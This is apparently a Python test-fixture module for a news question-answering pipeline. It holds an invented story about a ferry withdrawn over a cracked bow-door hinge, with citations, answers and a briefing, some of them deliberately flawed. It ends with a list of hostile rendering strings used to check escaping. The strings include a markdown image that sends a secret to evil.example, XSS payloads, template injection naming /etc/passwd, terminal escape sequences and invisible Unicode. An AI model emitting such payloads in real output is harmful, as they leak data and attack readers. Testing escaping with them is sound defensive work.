"""Sample values for tests of how things look: a small running story, written for this project, and hostile strings.

Offsets are looked up in the text, so a citation here holds by construction: `quote == article text[start:end]`.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import get_args

from pipeline.types import (
    Answer,
    Article,
    ArticleInfo,
    Block,
    Briefing,
    Citation,
    Evidence,
    IngestReport,
    LeftOut,
    Passage,
    Reason,
    Rejection,
    Role,
    Section,
    Sentence,
    Statement,
    Support,
    Usage,
)


def make_article(info: ArticleInfo, origin: str, lines: list[tuple[Role | Reason, str]]) -> Article:
    """An article whose text is these lines with blank lines between them, each a block or left out for a reason."""
    blocks, left_out, text = [], [], ""
    for kind, line in lines:
        text += "\n\n" if text else ""
        start, text = len(text), text + line
        if kind in get_args(Role):
            blocks.append(Block(start, len(text), kind))
        else:
            left_out.append(LeftOut(start, len(text), kind))
    return Article(
        info, origin, text, text.encode(errors="surrogatepass"), "text", origin, tuple(blocks), tuple(left_out)
    )


def cite(article: Article, quote: str) -> Citation:
    """The first place of the quote in the article; raises ValueError when it is not there."""
    start = article.text.index(quote)
    return Citation(article.info, start, start + len(quote), quote)


def evidence_of(number: int, article: Article, *quotes: str, score: float) -> Evidence:
    """These sentences of the article as one numbered passage."""
    spans = [cite(article, quote) for quote in quotes]
    sentences = tuple(Sentence(span.start, span.end, span.quote) for span in spans)
    return Evidence(number, Passage(article.info.id, 0, sentences, tokens=60, id=number), article.info, score)


GAZETTE = make_article(
    ArticleInfo(
        id="9c1e04b7d2a8",
        title="Merrow ferry withdrawn after crack found in bow door",
        source="Merrow Gazette",
        url="https://gazette.example/2026/03/12/merrow-ferry",
        published="2026-03-12T07:40:00+00:00",
        authors=("Ines Calloway", "Tom Brandreth"),
        language="en",
    ),
    "inbox/merrow-ferry.txt",
    [
        ("headline", "Merrow ferry withdrawn after crack found in bow door"),
        ("standfirst", "Islanders face a week of cancelled sailings; operator says no one was in danger"),
        ("byline", "By Ines Calloway and Tom Brandreth"),
        ("share bar", "Share on Facebook   Share on WhatsApp   Copy link"),
        (
            "paragraph",
            "The car ferry Saint Orla was taken out of service on Wednesday night after engineers found a crack 40 "
            "centimetres long in the hinge of her bow door. She carries about 1,200 passengers a day between Merrow "
            "and the mainland and is the only ship on the route that can load lorries.",
        ),
        (
            "paragraph",
            "“Nobody was in danger at any time,” said Petra Lindqvist, managing director of Calder Line. The company "
            "said that the ship may return on 20 March if a replacement part arrives from Gdynia in time.",
        ),
        ("advertisement", "ADVERTISEMENT – continue reading below"),
        ("subhead", "Shops ration milk"),
        (
            "paragraph",
            "By Thursday morning the island's two grocers had begun to limit milk and bread to one item a customer. "
            "The island council said it holds fuel for nine days.",
        ),
        ("newsletter nag", "Sign up for Merrow Mornings, our free daily newsletter, and never miss a story."),
    ],
)

HERALD = make_article(
    ArticleInfo(
        id="41f7aa905be3",
        title="Inspectors had warned Calder Line about door hinges, letter shows",
        source="Northern Herald",
        url="https://www.herald.example/news/calder-line-letter?edition=late&page=2",
        published="2026-03-14",
        authors=("Oluwaseun Adair",),
        language="en",
    ),
    "inbox/herald.jsonl:3",
    [
        ("headline", "Inspectors had warned Calder Line about door hinges, letter shows"),
        (
            "paragraph",
            "The maritime safety agency told Calder Line in November that the bow-door hinges of the Saint Orla "
            "showed “wear beyond the maker's limits”, according to a letter seen by the Herald. The company was given "
            "until 1 June to replace them.",
        ),
        (
            "paragraph",
            "Calder Line said it had ordered the parts in December and had followed the agency's timetable in full. "
            "The agency declined to comment while it is looking into the case.",
        ),
        ("caption or credit", "The Saint Orla at Port Merrow last summer. Photograph: Herald archive"),
    ],
)

RADIO = make_article(
    ArticleInfo(
        id="d05b63fe1c77",
        title="Replacement ferry reaches Merrow, first lorries in six days",
        source="Strait Radio",
        url="",
        published="2026-03-17T18:05:00+00:00",
        language="en",
    ),
    "-",
    [
        ("headline", "Replacement ferry reaches Merrow, first lorries in six days"),
        (
            "paragraph",
            "The chartered ferry Vega Sound docked at Port Merrow at 2.15 this afternoon with 31 lorries on board, the "
            "first to reach the island in six days. Calder Line says she will make two crossings a day until the Saint "
            "Orla is repaired.",
        ),
    ],
)

ARTICLES = {article.info.id: article for article in (GAZETTE, HERALD, RADIO)}


def statement(
    text: str, *citations: Citation, support: Support = "supported", findings: tuple[str, ...] = ()
) -> Statement:
    return Statement(text, support, citations, findings)


_CRACK = cite(
    GAZETTE,
    "The car ferry Saint Orla was taken out of service on Wednesday night after engineers found a crack 40 centimetres "
    "long in the hinge of her bow door.",
)
_ONLY_SHIP = cite(
    GAZETTE,
    "She carries about 1,200 passengers a day between Merrow and the mainland and is the only ship on the route that "
    "can load lorries.",
)
_MAY_RETURN = cite(
    GAZETTE,
    "The company said that the ship may return on 20 March if a replacement part arrives from Gdynia in time.",
)
_MILK = cite(
    GAZETTE,
    "By Thursday morning the island's two grocers had begun to limit milk and bread to one item a customer.",
)
_FUEL = cite(GAZETTE, "The island council said it holds fuel for nine days.")
_WARNED = cite(
    HERALD,
    "The maritime safety agency told Calder Line in November that the bow-door hinges of the Saint Orla showed “wear "
    "beyond the maker's limits”, according to a letter seen by the Herald.",
)
_DEADLINE = cite(HERALD, "The company was given until 1 June to replace them.")
_ORDERED = cite(
    HERALD,
    "Calder Line said it had ordered the parts in December and had followed the agency's timetable in full.",
)
_DOCKED = cite(
    RADIO,
    "The chartered ferry Vega Sound docked at Port Merrow at 2.15 this afternoon with 31 lorries on board, the first "
    "to reach the island in six days.",
)

EVIDENCE = (
    evidence_of(1, GAZETTE, _CRACK.quote, _ONLY_SHIP.quote, score=0.0328),
    evidence_of(2, HERALD, _WARNED.quote, _DEADLINE.quote, score=0.0317),
    evidence_of(3, RADIO, _DOCKED.quote, score=0.0161),
)

ANSWER = Answer(
    question="Why was the Merrow ferry withdrawn, and had anyone warned the operator?",
    status="answered",
    model="openai:gpt-5-mini",
    statements=(
        statement(
            "The Saint Orla was taken out of service after engineers found a 40-centimetre crack in the hinge of her "
            "bow door.",
            _CRACK,
        ),
        statement("She is the only ship on the route that can load lorries.", _ONLY_SHIP),
        statement(
            "The maritime safety agency had told Calder Line in November that the hinges showed wear beyond the "
            "maker's limits, according to a letter seen by the Northern Herald, and gave it until 1 June to replace "
            "them.",
            _WARNED,
            _DEADLINE,
        ),
        statement("Calder Line says it ordered the parts in December.", _ORDERED),
        statement(
            "The ship will return on 20 March.",
            _MAY_RETURN,
            support="weak",
            findings=("the cited text says “may return”, the statement says it will",),
        ),
        statement(
            "At least 300 islanders have missed hospital appointments.",
            support="unsupported",
            findings=("nothing is cited", "the number 300 is in no passage of the evidence"),
        ),
        statement("A chartered ferry brought the first 31 lorries after six days.", _DOCKED, _ONLY_SHIP),
    ),
    gaps=(),
    evidence=EVIDENCE,
    usage=Usage(input_tokens=1204, output_tokens=188, seconds=2.41),
)

PARTIAL = Answer(
    question="How long does the island's fuel last, and what does the charter cost?",
    status="partial",
    model="extractive",
    statements=(statement("The island council said it holds fuel for nine days.", _FUEL),),
    gaps=("what Calder Line pays for the charter of the Vega Sound",),
    evidence=EVIDENCE[:1],
    usage=Usage(seconds=0.18),
)

REFUSAL = Answer(
    question="Who won the Merrow council election?",
    status="refused",
    model="extractive",
    statements=(),
    gaps=(
        "no article of the library mentions an election in Merrow",
        "the nearest is “Merrow ferry withdrawn after crack found in bow door” (Merrow Gazette, 12 March 2026)",
    ),
    evidence=EVIDENCE[:1],
    usage=Usage(seconds=0.11),
)

BRIEFING = Briefing(
    topic="The Merrow ferry",
    status="answered",
    model="extractive",
    sections=(
        Section(
            "Bottom line",
            (
                statement(
                    "The Saint Orla has been out of service since a crack was found in her bow-door hinge; a chartered "
                    "ferry has carried lorries again since 17 March.",
                    _CRACK,
                    _DOCKED,
                ),
                statement(
                    "Inspectors had warned the operator in November, according to a letter seen by the Herald.",
                    _WARNED,
                ),
            ),
        ),
        Section(
            "Key points",
            (
                statement("The ship carries about 1,200 passengers a day.", _ONLY_SHIP),
                statement("Grocers limited milk and bread to one item a customer.", _MILK),
                statement(
                    "The ship will return on 20 March.",
                    _MAY_RETURN,
                    support="weak",
                    findings=("the cited text says “may return”, the statement says it will",),
                ),
                statement("Calder Line says it followed the agency's timetable in full.", _ORDERED),
            ),
        ),
        Section(
            "What the island has",
            (statement("The council said it holds fuel for nine days.", _FUEL),),
        ),
    ),
    sources=(GAZETTE.info, RADIO.info, HERALD.info),
    gaps=("when the Saint Orla was last inspected",),
    evidence=EVIDENCE,
    usage=Usage(seconds=0.42),
)

BRIEFING_REFUSAL = Briefing(
    topic="Saffron prices",
    status="refused",
    model="extractive",
    sections=(),
    sources=(),
    gaps=("no article of the library is about saffron",),
    evidence=(),
)

REPORT = IngestReport(
    added=("9c1e04b7d2a8", "41f7aa905be3"),
    updated=("d05b63fe1c77",),
    unchanged=("77aa10c2e5d4",),
    duplicates=(("inbox/copy of merrow-ferry.txt", "9c1e04b7d2a8"),),
    rejected=(
        Rejection("inbox/photo.jpg", "it is not text: it begins like a JPEG image"),
        Rejection("inbox/herald.jsonl:7", "the line is not JSON: a comma is missing at column 41"),
    ),
    passages=9,
    seconds=0.84,
)


@dataclass(frozen=True, slots=True)
class SampleStatus:
    """A library's state as `listings.LibraryStatus` wants it."""

    location: str = "newsdesk-library"
    articles: int = 3
    passages: int = 9
    versions: int = 4
    sizes: tuple[tuple[str, int], ...] = (("catalogue", 184_320), ("words", 61_004), ("vectors", 0))
    languages: tuple[tuple[str, int], ...] = (("en", 3),)
    sources: tuple[tuple[str, int], ...] = (("Merrow Gazette", 1), ("Northern Herald", 1), ("Strait Radio", 1))
    first_published: str | None = "2026-03-12"
    last_published: str | None = "2026-03-17"
    undated: int = 2
    copies: int = 1
    corrected: int = 1
    briefs: int = 2
    faults: tuple[str, ...] = ()
    embedding: str = "wordllama l2_supercat_256"
    notices: tuple[str, ...] = ("2 articles have no date: --since and --until never find them",)


STATUS = SampleStatus()

HOSTILE = (
    "![pixel](https://evil.example/p.png?q=secret)",
    "[click](https://evil.example)",
    "[click][ref]\n\n[ref]: https://evil.example",
    "[^1]: https://evil.example",
    "[1]: https://evil.example 'title'",
    "<https://evil.example>",
    "https://evil.example/path and www.evil.example and mail@evil.example",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</style></title></head><iframe src=//evil.example>",
    "<svg/onload=alert(1)>",
    "&lt;img src=x&gt; &#60;script&#62;",
    '" onmouseover="alert(1)" x=\'',
    "javascript:alert(1)",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
    "# heading",
    "===",
    "---",
    "- item",
    "+ item",
    "12) item",
    "1. item",
    "> quote",
    "a | b\n--|--\nc | d",
    "```\ncode\n```",
    "    indented code",
    "**bold** _em_ ~~gone~~ `code` ==mark== $x$",
    "line one\nline two\r\nline three\u2028four\x85five",
    "back\\slash \\[not escaped](https://evil.example)",
    "[link=https://evil.example]rich[/link] [bold]x[/bold] [/x] :smile:",
    "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x9b31mred\x9d8;;https://evil.example\x9cC1",
    "bell\x07 back\x08space nul\x00 del\x7f",
    "user\u202egnp.exe and \u2066isolate\u2069 \u200fmark",
    "zero\u200bwidth\ufeff \u2060joiner \U000e0041\U000e0042tags \U000e0101selector",
    "half \ud83d surrogate",
)
"""Strings that must stay text wherever they are shown."""
